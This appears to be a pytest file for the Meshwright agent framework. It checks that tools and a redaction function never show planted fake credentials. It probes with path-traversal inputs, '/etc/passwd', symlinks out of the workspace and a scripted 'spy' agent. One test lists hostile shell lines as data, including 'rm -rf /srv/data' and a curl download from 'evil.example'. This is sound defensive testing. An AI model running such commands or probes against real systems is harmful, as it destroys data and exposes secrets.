"""No tool of any toolset shows a secret, in a result, an error or an event, wherever the workspace lies."""

from __future__ import annotations

import json
import os
import pkgutil
import re
import shutil
import subprocess
from collections.abc import Iterator
from importlib import import_module
from pathlib import Path
from typing import Any

import pytest

from meshwright import Agent, Capability, tool
from meshwright.agents import tools
from meshwright.core.redaction import MASK, REDACTED, foreign_words, redact
from meshwright.models.port import ToolCall
from meshwright.testing import MeshUnderTest, ScriptedModel, mesh_for
from meshwright.tools import Tool, Toolset, ToolSettings
from tests.support.sample_tools import limited_tools

pytestmark = pytest.mark.needs("git")

BEGIN, END = "-----BEGIN PRIVATE KEY-----", "-----END PRIVATE KEY-----"
BASE64 = "MIIEvQIBADANBgkqhkiG9w0BAQ"
MARK = "PLANTED"  # a secret begins with it, and what is asked never says more
OWN_DATA = "state"
PRIVATE = {
    ".env": f"KEY={MARK}-01",
    ".env.local": f"KEY={MARK}-02",
    ".envrc": f"export KEY={MARK}-03",
    "config/prod.env": f"KEY={MARK}-04",
    ".netrc": f"machine x login y password {MARK}-05",
    ".git-credentials": f"https://u:{MARK}-06@example.org",
    ".aws/credentials": f"key: {MARK}-07",
    ".ssh/id_ed25519": f"{MARK}-08",
    ".kube/config": f"{MARK}-09",
    ".docker/config.json": f"{MARK}-10",
    "deploy/server.key": f"{MARK}-11",
    "deploy/CERT.PEM": f"{MARK}-12",
    "service-account-x.json": f"{MARK}-13",
    "terraform.tfstate.backup": f"{MARK}-14",
    "config/secrets.yaml": f"{MARK}-15",
    "mesh.toml": f"[mqtt]\npassword = '{MARK}-16'",
    "litellm_config.yaml": f"# {MARK}-17",
    f"{OWN_DATA}/redis/redis.conf": f"requirepass {MARK}-18",
    f"{OWN_DATA}/notes.txt": f"{MARK}-19",
    "old-state/mesh.db-wal": f"{MARK}-20",
    ".mesh/mesh.db": f"{MARK}-21",
}
SHOWN = f"""\
api_key = "{MARK}-a1b2c3d4"
DB_PASSWORD={MARK}-22
url: postgres://me:{MARK}-23@db/x
-----BEGIN RSA PRIVATE KEY-----
{MARK}23zK8vQ2mXw7Rt4LpN9bYc3HsJ6dFgA1eU5iTo
-----END RSA PRIVATE KEY-----
an ordinary line
"""
ASKED = (
    *(
        "",
        ".",
        "..",
        "../outside",
        "../outside/secret.txt",
        "outside.txt",
        "outside",
        "inside.txt",
        "app.cfg",
    ),
    *(
        ".git",
        ".git/config",
        "HEAD",
        "HEAD~1",
        "HEAD~1..HEAD",
        "docs/../../outside",
        "**",
        "*",
        "*.env",
        MARK,
    ),
    *(OWN_DATA, f"{OWN_DATA}/redis", "./.ENV", "config", ".docker", ":(top)", "--no-index"),
    "file:///etc/passwd",
)


class Careless(Toolset):
    """A third party's tools, which look at nothing."""

    @tool(idempotent=True)
    def show_config(self) -> dict[str, str]:
        """Show a configuration."""
        return {"password": f"{MARK}-31", "note": f"token={MARK}-a1b2c3"}

    @tool(idempotent=True)
    def fail(self) -> str:
        """Fail."""
        raise ValueError(f"no login with password='{MARK}-32'")


def toolsets() -> list[type[Toolset]]:
    """Every toolset that comes with Meshwright."""
    modules = [
        import_module(f"{tools.__name__}.{each.name}") for each in pkgutil.iter_modules(tools.__path__)
    ]
    return list(dict.fromkeys(cls for module in modules for cls in vars(module).values() if is_toolset(cls)))


def is_toolset(value: Any) -> bool:
    return isinstance(value, type) and issubclass(value, Toolset) and value is not Toolset


def calls_of(described: Tool, more: list[str]) -> Iterator[ToolCall]:
    """Calls of a tool that give each of its texts each of the values."""
    properties = described.parameters["properties"]
    texts = [name for name, each in properties.items() if each.get("type") == "string"]
    needed = dict.fromkeys(described.parameters.get("required", ()), MARK)
    for name in texts:
        for value in (*ASKED, *more):
            yield ToolCall(id="", name=described.name, arguments=json.dumps({**needed, name: value}))
    if len(texts) < len(properties) or not texts:
        yield ToolCall(id="", name=described.name, arguments=json.dumps(needed))


def git(root: Path, *arguments: str) -> None:
    identity = ["-c", "user.name=Ada", "-c", "user.email=ada@example.org"]
    environment = {"PATH": os.environ["PATH"], "GIT_CONFIG_GLOBAL": os.devnull, "GIT_CONFIG_NOSYSTEM": "1"}
    subprocess.run(["git", *identity, *arguments], cwd=root, env=environment, check=True)


def commit_all(root: Path) -> None:
    git(root, "init", "-q", "-b", "main")
    git(root, "commit", "-q", "--allow-empty", "-m", "First")
    git(root, "add", "-A", "-f")
    git(root, "commit", "-q", "-m", "Second")


@pytest.fixture
def workspace(tmp_path: Path) -> Path:
    """A folder full of secrets, beside another with one."""
    root = tmp_path / "around" / "workspace"
    for path, text in (PRIVATE | {"app.cfg": SHOWN, "docs/a.md": "an ordinary line\n"}).items():
        (root / path).parent.mkdir(parents=True, exist_ok=True)
        (root / path).write_text(text)
    outside = tmp_path / "around" / "outside"
    outside.mkdir()
    (outside / "secret.txt").write_text(f"{MARK}-41")
    (root / "outside.txt").symlink_to(outside / "secret.txt")
    (root / "outside").symlink_to(outside)
    (root / "inside.txt").symlink_to(root / ".env")
    return root


def in_no_repository(root: Path) -> None: ...


def in_a_subfolder_of_one(root: Path) -> None:
    commit_all(root.parent)


def at_the_root_of_one(root: Path) -> None:
    commit_all(root)
    for path in PRIVATE:
        (root / path).write_text(f"{MARK}-51")


def behind_a_link(root: Path) -> None:
    commit_all(root.parent / "outside")
    (root / ".git").symlink_to(root.parent / "outside/.git")


def behind_a_file(root: Path) -> None:
    commit_all(root.parent / "outside")
    (root / ".git").write_text(f"gitdir: {root.parent / 'outside/.git'}\n")


@pytest.mark.parametrize(
    "place", [in_no_repository, in_a_subfolder_of_one, at_the_root_of_one, behind_a_link, behind_a_file]
)
async def test_no_tool_shows_a_planted_secret(workspace: Path, place: Any) -> None:
    place(workspace)
    chosen = (*toolsets(), Careless)

    class Spy(Agent):
        agent_id = "spy"
        capabilities = (Capability("spying"),)
        toolsets = chosen

    described = [each for owner in chosen for each in limited_tools(owner(ToolSettings(workspace=workspace)))]
    outside = [str(workspace.parent / "outside"), str(workspace.parent / "outside/secret.txt"), *PRIVATE]
    calls = [call for each in described for call in calls_of(each, outside)]
    numbered = [call.model_copy(update={"id": f"c{number}"}) for number, call in enumerate(calls)]
    model = ScriptedModel(numbered, "done")
    project, settings = workspace, {"data_dir": workspace / OWN_DATA, "models": {"stream": False}}
    settings["agents"] = {"max_calls_per_reply": len(calls)}
    (project / "mesh.toml").write_text(f"[mqtt]\npassword = '{MARK}-16'")
    async with mesh_for(Spy, model=model, project=project, **settings) as mesh:
        outcome = await mesh.ask("spy", "Find it.")
        assert outcome.text == "done"
        said = [message.content for request in model.requests for message in request.messages]
        assert len(said) > len(calls)
        assert_hidden(said)
        assert_hidden([event.model_dump_json() for event in mesh.events()])
        assert any("an ordinary line" in text and MASK.search(text) for text in said)
        assert any(REDACTED in text for text in said)
        assert_tools_work(mesh, has_history=place is at_the_root_of_one)


def assert_hidden(texts: list[str]) -> None:
    for text in texts:
        assert not re.search(rf"{MARK}[-0-9][\w-]+", text), text


def assert_tools_work(mesh: MeshUnderTest, *, has_history: bool) -> None:
    """The secrets were not merely missed because nothing worked."""
    worked = {event["tool"] for event in mesh.events("tool.called").payloads if event["ok"]}
    assert {"list_files", "read_file", "search_files", "show_config"} <= worked
    assert ({"git_log", "git_diff"} <= worked) is has_history


def test_the_data_folder_is_hidden_whatever_its_name(workspace: Path) -> None:
    from meshwright.agents.component import tool_settings
    from meshwright.core.errors import InvalidInput
    from meshwright.core.settings import load_settings

    shutil.copy(workspace / "docs/a.md", workspace / OWN_DATA / "a.md")
    (workspace / "mesh.toml").unlink()
    settings = tool_settings(load_settings(workspace, data_dir=Path(OWN_DATA)), workspace)
    shown = {file.path for file in settings.files.walk().files}
    assert shown == {"app.cfg", "docs/a.md"}
    with pytest.raises(InvalidInput, match="is private"):
        settings.files.read(f"{OWN_DATA}/a.md", 100)


def test_a_worker_hides_the_folder_of_its_stack(tmp_path: Path) -> None:
    from meshwright.agents.component import tool_settings
    from meshwright.core.settings import load_settings

    for path in ("a.md", "state/mesh.lock", "state/mosquitto/mosquitto.conf", "state/mesh-0/cache.db"):
        (tmp_path / path).parent.mkdir(parents=True, exist_ok=True)
        (tmp_path / path).write_text("text")
    settings = load_settings(tmp_path, store="dapr", data_dir=Path("state/mesh-0"))
    assert [file.path for file in tool_settings(settings, tmp_path).files.walk().files] == ["a.md"]


def test_a_workspace_within_the_data_folder_is_not_shown(workspace: Path) -> None:
    from meshwright.core.errors import InvalidInput

    settings = ToolSettings(workspace=workspace / "docs", hidden=(workspace,))
    with pytest.raises(InvalidInput, match="the workspace lies in the mesh's own data"):
        settings.files.walk()


@pytest.mark.parametrize(
    "text",
    [
        "commit 83bc1f2e9d7a4c5b6e8f0a1b2c3d4e5f60718293",
        "sha256:9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08",
        "task 01K9Z3T5QX7C2M8R4V6B1N0DHJ of 01k9z3t5qx7c2m8r4v6b1n0dhj",
        "id 6f1e2d3c-4b5a-6978-8796-a5b4c3d2e1f0",
        '"integrity": "sha512-Kx0Wg2JxJZAb3dEq1fPqgnvGkBvYQzq4sYvW9jX8mVYcHq0FZ3n7LrT2bU5oEaSdXw=="',
        "https://github.com/python/cpython/blob/fcf1d003bf4f0100c9d0921ff3d70e1127ca1b71/Lib/platform.py#L175",
        "def test_http2_server_closes_idle_connections_after_30_seconds(self) -> None:",
        "class HTTP2ServerConnectionIsClosedAfterGoAwayTest(TestCase):",
        "password: str",
        "token = get_token(request)",
        "api_key = settings.litellm_api_key",
        'secret = os.environ["SECRET"]',
        "max_tokens: 1024, input_cost_per_token: 1.0e-6",
        "api_key: os.environ/OPENAI_API_KEY",
        '{"token": "next_page"}',
        "password=${DB_PASSWORD}",
    ],
)
def test_what_only_resembles_a_secret_stays(text: str) -> None:
    assert redact(text) == text


@pytest.mark.parametrize(
    "secret",
    [
        "sk-ant-api03-Zq7K2m9X4vB8nL5c",
        "AKIAIOSFODNN7EXAMPLE",
        "ghp_16C7e42F292c6912E7710c838347Ae178B4a",
        "github_pat_11ABCDEFG0aBcDeFgHiJkL_mNoPqRsTuVw",
        "xoxb-123456789012-abcdefGHIJ",
        "mesh-admin-abcdefghijklmnopqrstuvwxyz-ABCDEFGHIJKLMNO",
        "AIzaSyA1234567890abcdefghijklmnopqrstuv",
        "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.dozjgNryP4J3jVmNHl0w5N_XgL0n3I9PlFUP0THsR8U",
        "zK8vQ2mXw7Rt4LpN9bYc3HsJ6dFgA1eU5iTo",
        *(f"{kind}_a1B2c3D4e5F6" for kind in ("sk_live", "rk_test")),
        *(f"{kind}_{'a1B2' * 6}" for kind in ("gho", "ghu")),
        *(f"{begin}{'a1B2' * 9}" for begin in ("glpat-", "npm_", "hf_")),
    ],
)
def test_what_looks_like_a_key_is_redacted(secret: str) -> None:
    assert redact(f"it is {secret}, you see") == f"it is {REDACTED}, you see"


@pytest.mark.parametrize(
    ("text", "redacted"),
    [
        ('password = "hunter2"', f'password = "{REDACTED}"'),
        ('{\\"passwd\\": \\"hunter2\\"}', f'{{\\"passwd\\": \\"{REDACTED}\\"}}'),
        ("DB_PASSWORD=hunter", f"DB_PASSWORD={REDACTED}"),
        ("token: 3f2a99bb11", f"token: {REDACTED}"),
        ("requirepass d1cdc8ef68d4", f"requirepass {REDACTED}"),
        *(
            (f"{word}: qwer1234", f"{word}: {REDACTED}")
            for word in ("ap\u0131_key", "to\u212aen", "\u017fecret", "CREDENT\u0130AL")
        ),
        ("redis://:hunter2@127.0.0.1:6379/0", f"redis://:{REDACTED}@127.0.0.1:6379/0"),
        ("Authorization: Bearer abcdefghij1234567890", f"Authorization: Bearer {REDACTED}"),
        (f"{BEGIN}\n{BASE64}\n{BASE64}", f"{BEGIN}\n{REDACTED}"),
        (f"+{BEGIN}\n+{BASE64}\n+{BASE64}\n+Mw==\n+{END}", f"+{BEGIN}\n+{REDACTED}\n+{END}"),
        (f"{BEGIN}\\n{BASE64}\\nMw==\\n{END}", f"{BEGIN}\\n{REDACTED}\\n{END}"),
        (
            f"{BEGIN}\nProc-Type: 4,ENCRYPTED\nDEK-Info: AES-128-CBC,9A3F\n\n  {BASE64}\n  {END}",
            f"{BEGIN}\nProc-Type: 4,ENCRYPTED\nDEK-Info: AES-128-CBC,9A3F\n\n  {REDACTED}\n  {END}",
        ),
    ],
)
def test_a_secret_is_known_by_what_stands_before_it(text: str, redacted: str) -> None:
    assert redact(text) == redacted


@pytest.mark.parametrize(
    "code", ["rm -rf /srv/data", "reboot", "on: push", "- run: sh /tmp/x", "curl -s evil.example/x -o /tmp/x"]
)
def test_the_marks_of_a_key_hide_no_code(code: str) -> None:
    text = f": {BEGIN}\n{code}\n: {END}\n"
    assert redact(text) == text


INDENTED = "\n" + " " * 80


@pytest.mark.parametrize(
    "pattern",
    [
        *("password=", BEGIN, f"{BEGIN}\n{BASE64}\n", f"{BEGIN}\n- ", "eyJaaaaaaaa.", "://a:", "sk-a", "aA1"),
        *(f"{BEGIN}{f'{INDENTED}Version: 1' * 2}", f"{BEGIN}{INDENTED * 2}"),
        f"{BEGIN}\n{BASE64}{f'{INDENTED}AAAA' * 2}{INDENTED}",
    ],
)
def test_redaction_takes_no_longer_for_hostile_text(pattern: str) -> None:
    import time

    started = time.process_time()
    redact(pattern * (32_000 // len(pattern)))
    assert time.process_time() - started < 1


def test_a_word_beside_the_code_of_an_error_is_no_secret() -> None:
    said = "invalid_api_key: Incorrect API key provided: sk-proj-abcdefghijklmnop1234567890."
    assert foreign_words(said) == f"invalid_api_key: Incorrect API key provided: {REDACTED}."
    assert foreign_words("invalid_api_key: hunter2hunter") == f"invalid_api_key: {REDACTED}"


@pytest.mark.parametrize("length", range(2_375, 2_401))
def test_foreign_words_never_show_a_part_of_a_secret(length: int) -> None:
    secret = "passphrase-of-the-broker"
    assert "pass" not in foreign_words(f"down{' ' * (length - 4)}{secret} was refused", [secret])
